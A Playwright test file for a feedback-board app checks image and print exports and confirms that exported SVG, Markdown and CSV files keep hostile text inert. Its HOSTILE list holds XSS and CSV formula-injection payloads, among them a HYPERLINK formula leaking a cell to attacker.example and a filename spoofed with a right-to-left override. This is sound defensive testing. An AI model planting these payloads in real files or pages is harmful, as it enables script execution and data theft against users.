import { readFileSync } from 'node:fs';
import { expect, test, type Page } from './test';
import { generateNKeysBetween } from 'fractional-indexing';
import { marked } from 'marked';
import Papa from 'papaparse';
import { addGroups, addNotes, makeGroup, makeNote } from '../../src/lib/board';
import { editBoard, joinAs } from './collab-helpers';
import { createBoard, workspaceHeaders } from './helpers';

const COMMENTS = [
	'The courier left the parcel at the wrong door and nobody answered the phone for two days',
	'Delivery was three days late, see https://support.example.com/tickets/2024/11/very-long-path?ref=abcdefghijklmnopqrstuvwxyz0123456789 for my ticket',
	'Box arrived crushed; the glasses inside were broken',
	'Tracking said delivered but it was not',
	'Great driver, very polite',
	'I waited all day at home and the delivery never came, then the app said I was not there, which is simply not true, and the refund took weeks'
];

/** A board with three groups (one collapsed) and loose notes, with satisfaction answers for the bars. */
async function board(baseURL: string, notes = 40) {
	const b = await createBoard(baseURL, 'Delivery feedback, November');
	await editBoard(baseURL, b.id, b.links.facilitator, (doc) => {
		const groups = [
			makeGroup({ label: 'Late or missed deliveries and couriers who never call before they come', x: 40, y: 40, order: 'a0' }),
			makeGroup({ label: 'Damaged parcels', x: 1200, y: 40, order: 'a1', color: '#fde68a' }),
			makeGroup({ label: 'Praise', x: 1800, y: 40, order: 'a2', collapsed: true, color: '#bbf7d0' })
		];
		addGroups(doc, groups, { kind: 'server' });
		const order = generateNKeysBetween(null, null, notes);
		addNotes(
			doc,
			Array.from({ length: notes }, (_, i) =>
				makeNote({
					text: `${COMMENTS[i % COMMENTS.length]} (#${i + 1})`,
					fields: { satisfaction: (i % 5) + 1 },
					groupId: i < notes - 6 ? groups[i % 3].id : null,
					order: order[i],
					createdBy: 'seed',
					createdAt: i
				})
			),
			{ kind: 'server' }
		);
	});
	return b;
}

/**
 * Opens an SVG as its own document in Chromium and measures, for every card (a nested <svg
 * data-card>), how far each of its texts really extends (`getBBox`, with the fonts of this
 * machine). Returns the texts that leave their card.
 */
async function textsOutsideCards(page: Page, baseURL: string, svg: string): Promise<string[]> {
	await page.route('**/image-under-test.svg', (route) => route.fulfill({ contentType: 'image/svg+xml', body: svg }));
	await page.goto(`${baseURL}/image-under-test.svg`);
	return page.evaluate(() => {
		const out: string[] = [];
		for (const card of document.querySelectorAll<SVGSVGElement>('svg[data-card]')) {
			const w = card.width.baseVal.value;
			const h = card.height.baseVal.value;
			for (const t of card.querySelectorAll<SVGTextElement>(':scope > text')) {
				const b = t.getBBox();
				if (b.x < -0.5 || b.y < -0.5 || b.x + b.width > w + 0.5 || b.y + b.height > h + 0.5) out.push(`${t.textContent} (${Math.round(b.x)}..${Math.round(b.x + b.width)} of ${w})`);
			}
		}
		return out;
	});
}

test('the export menu downloads the board and its groups as SVG and PNG, every text inside its card', async ({ browser, baseURL }) => {
	const b = await board(baseURL!);
	const { page } = await joinAs(browser, b.links.facilitator, 'Alice');

	// Keyboard: the menu opens on its first item, arrows move, Escape gives focus back.
	await page.getByTestId('export-button').focus();
	await page.keyboard.press('Enter');
	await expect(page.getByRole('menuitem', { name: 'Board as SVG' })).toBeFocused();
	await page.keyboard.press('ArrowDown');
	await expect(page.getByRole('menuitem', { name: 'Board as PNG' })).toBeFocused();
	await page.screenshot({ path: test.info().outputPath('export-menu.png') });
	await page.keyboard.press('Escape');
	await expect(page.getByRole('menu')).toBeHidden();
	await expect(page.getByTestId('export-button')).toBeFocused();

	await page.getByTestId('export-button').click();
	const [svgDownload] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-board-svg').click()]);
	expect(svgDownload.suggestedFilename()).toBe('Delivery-feedback-November.svg');
	const svg = readFileSync((await svgDownload.path())!, 'utf8');
	expect(svg).toContain('Damaged parcels');
	expect(svg).toContain('collapsed on the board');
	// 40 notes less the 11 of the collapsed group (every third of the first 34).
	expect(svg.match(/data-note=/g)?.length).toBe(29);

	await page.getByTestId('export-button').click();
	const [pngDownload] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-groups-png').click()]);
	expect(pngDownload.suggestedFilename()).toBe('Delivery-feedback-November.groups.png');
	const png = readFileSync((await pngDownload.path())!);
	expect(png.subarray(1, 4).toString()).toBe('PNG');
	// Drawn at twice the screen image's 1,200 px.
	expect(png.readUInt32BE(16)).toBe(2400);
	await pngDownload.saveAs(test.info().outputPath('groups.png'));

	await page.getByTestId('export-button').click();
	const [boardPng] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-board-png').click()]);
	await boardPng.saveAs(test.info().outputPath('board.png'));

	const viewer = await page.context().newPage();
	expect(await textsOutsideCards(viewer, baseURL!, svg)).toEqual([]);
	const groups = await (await page.request.get(`/api/boards/${b.id}/export?format=svg&scope=groups`)).text();
	expect(await textsOutsideCards(viewer, baseURL!, groups)).toEqual([]);
	await viewer.close();
});

test('printing the board gives numbered landscape pages that each fit the paper', async ({ browser, baseURL }) => {
	const b = await board(baseURL!, 120);
	const { page } = await joinAs(browser, b.links.viewer, 'Bob');
	await page.getByTestId('export-button').click();
	const [print] = await Promise.all([page.context().waitForEvent('page'), page.getByTestId('print-board-a4').click()]);
	await expect(print.getByRole('heading', { level: 1 })).toContainText('Board on A4 pages');
	const count = Number((await print.getByRole('heading', { level: 1 }).textContent())!.match(/· (\d+) pages?/)![1]);
	expect(count).toBeGreaterThan(1);
	await expect(print.getByTestId('print-page')).toHaveCount(count);
	await expect(print.getByTestId('print-page').first()).toHaveJSProperty('complete', true);
	await print.screenshot({ path: test.info().outputPath('print-a4.png') });

	const res = await page.request.get(`/api/boards/${b.id}/export?format=svg&scope=board&paper=a4&page=${count}`);
	expect(res.ok()).toBe(true);
	expect(await res.text()).toContain(`Page ${count} of ${count}`);
	const tooFar = await page.request.get(`/api/boards/${b.id}/export?format=svg&scope=board&paper=a4&page=${count + 1}`);
	expect(tooFar.status()).toBe(400);
	expect((await tooFar.json()).message).toContain(`has ${count} pages`);
});

/** A group's name as a title: white space collapsed (a tab at the start is gone before any escaping). */
const flat = (text: string) => text.replace(/\s+/g, ' ').trim();

const HOSTILE = [
	`0"/><script>window.__ran = (window.__ran || 0) + 1; alert('svg')</script>`,
	`=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")`,
	`+SUM(1,2)`,
	`-2+3 refund`,
	`@SUM(A1:A9)`,
	`\t=1+1 after a tab`,
	`[click me](javascript:window.__ran=1) ![pixel](http://attacker.example/p.png) <img src=x onerror="window.__ran=1">`,
	`<a href="javascript:alert(1)">link</a> &lt;b&gt; &amp; <!-- comment -->`,
	`Refund \u202Egnp.exe\u202C and \u2067مرتجع\u2069 today`
];

/**
 * Opens `body` in Chromium as a document of `type` and reports anything that ran or could run:
 * dialogs, console messages, the marker the hostile texts set, script elements, event-handler
 * attributes, javascript: links and images that would load.
 */
async function inert(page: Page, baseURL: string, type: string, body: string) {
	const ran: string[] = [];
	page.on('dialog', (d) => (ran.push(`dialog: ${d.message()}`), void d.dismiss()));
	page.on('console', (m) => ran.push(`console: ${m.text()}`));
	page.on('pageerror', (e) => ran.push(`error: ${e.message}`));
	await page.route('**/hostile-under-test', (route) => route.fulfill({ contentType: type, body }));
	await page.goto(`${baseURL}/hostile-under-test`);
	const found = await page.evaluate(() => {
		const all = [...document.querySelectorAll('*')];
		return {
			ran: (window as unknown as { __ran?: number }).__ran ?? 0,
			scripts: document.querySelectorAll('script').length,
			handlers: all.filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on'))).length,
			jsLinks: all.filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') ?? el.getAttribute('xlink:href') ?? '')).length,
			images: document.querySelectorAll('img, image').length
		};
	});
	await page.waitForTimeout(200);
	return { ...found, events: ran };
}

test('every export keeps hostile names and comments as text: nothing runs when the files are opened', async ({ browser, baseURL }) => {
	const b = await createBoard(baseURL!, HOSTILE[0]);
	// Groups are assigned to a department of the board's workspace (the server puts back any other), so they reach the tracker files.
	const dept = await fetch(`${baseURL}/api/departments`, { method: 'POST', headers: workspaceHeaders(), body: JSON.stringify({ name: `Hostile ${Math.random().toString(36).slice(2, 7)}` }) });
	expect(dept.ok).toBe(true);
	const { id: department } = (await dept.json()) as { id: string };
	await editBoard(baseURL!, b.id, b.links.facilitator, (doc) => {
		const groups = HOSTILE.map((label, i) => makeGroup({ label, x: 40 + i * 400, y: 40, order: `a${i}`, department }));
		addGroups(doc, groups, { kind: 'server' });
		addNotes(
			doc,
			groups.map((g, i) => makeNote({ text: HOSTILE[(i + 1) % HOSTILE.length], fields: { satisfaction: 1 }, groupId: g.id, order: 'a0', createdBy: 'seed' })),
			{ kind: 'server' }
		);
	});
	const context = await browser.newContext();
	const get = async (query: string) => {
		const res = await context.request.get(`${baseURL}/api/boards/${b.id}/export?${query}`, { headers: { authorization: `Bearer ${new URL(b.links.facilitator).searchParams.get('token')}` } });
		expect(res.ok(), query).toBe(true);
		return res.text();
	};

	// The check itself sees a script that runs.
	const control = await context.newPage();
	expect((await inert(control, baseURL!, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__ran = 1</script></svg>')).ran).toBe(1);
	await control.close();

	// SVG, as the downloaded file is opened: no script element, handler or link survives, nothing runs.
	for (const query of ['format=svg', 'format=svg&scope=groups', 'format=svg&paper=a4']) {
		const svg = await get(query);
		for (const text of ['window.__ran', 'HYPERLINK', 'javascript:']) expect(svg).toContain(text);
		expect(svg).not.toMatch(/[\u202a-\u202e]/);
		const page = await context.newPage();
		expect(await inert(page, baseURL!, 'image/svg+xml', svg), query).toEqual({ ran: 0, scripts: 0, handlers: 0, jsLinks: 0, images: 0, events: [] });
		await page.close();
	}

	// Markdown, rendered to HTML as a wiki or a chat would: the names stay visible text.
	const md = await get('format=md');
	const html = await marked.parse(md, { async: false });
	const page = await context.newPage();
	expect(await inert(page, baseURL!, 'text/html; charset=utf-8', html)).toEqual({ ran: 0, scripts: 0, handlers: 0, jsLinks: 0, images: 0, events: [] });
	const text = await page.locator('body').innerText();
	expect(text).toContain(`[click me](javascript:window.__ran=1)`);
	expect(text).toContain(`<a href="javascript:alert(1)">link</a> &lt;b&gt; &amp;`);
	expect(text).not.toMatch(/[\u202a-\u202e]/);
	await page.close();

	// CSV: no cell starts a formula; the spreadsheet file marks them with an apostrophe, the tracker
	// files with a space the importers trim, so each reads back as the original text.
	const readCsv = async (query: string) => Papa.parse<string[]>((await get(query)).replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
	const generic = await readCsv('format=csv');
	for (const jira of [await readCsv('format=csv&target=jira'), await readCsv('format=csv&target=azure')]) {
		for (const cell of jira) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
		for (const name of HOSTILE.slice(1, 6)) expect(jira.map((c) => c.trim()), name).toContain(flat(name));
	}
	for (const cell of generic) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
	for (const name of HOSTILE.slice(1, 6)) expect(generic, name).toContain(`'${flat(name)}`);

	// Data exports carry the text unchanged.
	const tasks = JSON.parse(await get('format=tasks.json')) as { tasks: { title: string }[] };
	expect(tasks.tasks.map((t) => t.title)).toEqual(expect.arrayContaining(HOSTILE.slice(1, 3)));
	await context.close();
});
